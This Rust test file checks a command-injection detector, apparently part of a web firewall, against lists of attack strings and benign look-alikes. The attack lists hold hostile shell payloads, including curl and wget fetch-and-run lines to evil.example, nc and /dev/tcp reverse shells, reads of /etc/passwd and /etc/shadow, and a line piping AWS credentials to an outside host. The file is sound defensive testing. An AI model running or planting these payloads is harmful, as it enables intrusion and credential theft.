#![allow(clippy::unwrap_used, clippy::expect_used)]
use crate::detect::score_of;
use crate::extract::Origin;
use crate::settings::Class;

const BLOCK: u32 = 60;

fn s(t: &str) -> u32 {
    score_of(t, Origin::ParamValue, Class::Cmdi)
}

#[test]
fn attack_variants_block() {
    let attacks = [
        "; cat /etc/passwd",
        "| id",
        "&& whoami",
        "`uname -a`",
        "$(curl http://evil.example/x.sh | sh)",
        "127.0.0.1; ls -la",
        "x || wget http://evil.example/a -O /tmp/a",
        "c'a't /etc/passwd",
        "c\\at /etc/shadow",
        ";cat${IFS}/etc/passwd",
        "; /bin/sh -i",
        "nc -e /bin/sh 10.0.0.1 4444",
        "bash -i >& /dev/tcp/10.0.0.1/8080 0>&1",
        "() { :; }; /bin/bash -c id",
        "{cat,/etc/passwd}",
        "& ipconfig /all",
        "| powershell -enc SQBFAFgA",
        "for /f %i in ('whoami') do echo %i",
        "; sleep 5 ;",
        "a;$u wget evil.example",
        "/usr/bin/[u]name -a",
        "%0aid",
    ];
    for a in attacks {
        let decoded = crate::decode::normalize(a, false);
        let sc = s(a).max(s(&decoded));
        assert!(sc >= BLOCK, "should block {a:?}: {sc}");
    }
}

#[test]
fn look_alike_legit_passes() {
    let legit = [
        "Tom & Jerry",
        "R&D department",
        "salt; pepper; cat food",
        "TL;DR: it works | more or less",
        "Watch more videos → https://example.com",
        "nice to see you again",
        "I sleep 8 hours; then I wake up",
        "Q&A session at 5",
        "Fate (AZ) Chocolate Stout",
        "find the best price",
        "Set 8 mini cupcakes",
        "sh",
        "echo chamber",
        "Please ping me when ready",
    ];
    for l in legit {
        assert!(s(l) < BLOCK, "should pass {l:?}: {}", s(l));
    }
}

#[test]
fn issue_5_redirection_run_is_linear() {
    // Found by the `linear` fuzz target: every `>` of a run trimmed the rest of the run,
    // so 64 KiB of `>` took seconds and a 1 MiB body minutes. A quarter megabyte runs
    // here in milliseconds; before the fix the test did not finish.
    let run = ">".repeat(256 << 10);
    assert!(s(&format!("cat {run}/etc/passwd")) >= BLOCK);
    assert!(s(&format!("{run} report")) < BLOCK);
    assert!(s(&"> &".repeat(64 << 10)) < BLOCK);
}

#[test]
fn issue_5_command_strings_run_by_eval_and_trap() {
    for a in [
        ";trap 'rm -rf file.txt' SIGEXIT",
        "x; eval 'cat /etc/passwd'",
        "1 && eval \"wget http://evil.example/a -O /tmp/a\"",
        "a|trap \"/bin/sh -i\" EXIT",
        "eval 'nc -e /bin/sh 10.0.0.1 4444'",
    ] {
        assert!(s(a) >= BLOCK, "should block {a:?}: {}", s(a));
    }
    for l in [
        "eval 'good' or 'bad' in the review",
        "It's a trap 'they said' and left",
        "We eval the model; trap 'Ctrl-C' in the shell docs",
        "x; eval 'Cat Stevens' songs",
    ] {
        assert!(s(l) < BLOCK, "should pass {l:?}: {}", s(l));
    }
}

#[test]
fn issue_5_chained_commands_in_free_text() {
    // A document field (JSON string, XML text) forgives a bare command line, which is
    // usually documentation, unless a second command is chained to it with an operator.
    let j = |t: &str| score_of(t, Origin::JsonValue, Class::Cmdi);
    for a in [
        "cd /;cd etc;fold passwd",
        "ls -la /var/www && curl http://evil.example/s.sh",
        "cat ~/.aws/credentials | nc evil.example 9999",
        "dd if=/etc/passwd of=/tmp/evil.sh bs=1 skip=22 count=9",
    ] {
        assert!(j(a) >= BLOCK, "should block {a:?}: {}", j(a));
    }
    for l in [
        "curl https://api.example.com/v1/items -H 'Accept: application/json'",
        "ls -la shows the files; Then I opened the README",
        "Run make; it builds everything. Then make install",
        "cat food; dog food; fish food",
        "dd if=backup.img of=disk.img bs=4M to clone it",
    ] {
        assert!(j(l) < BLOCK, "should pass {l:?}: {}", j(l));
    }
}
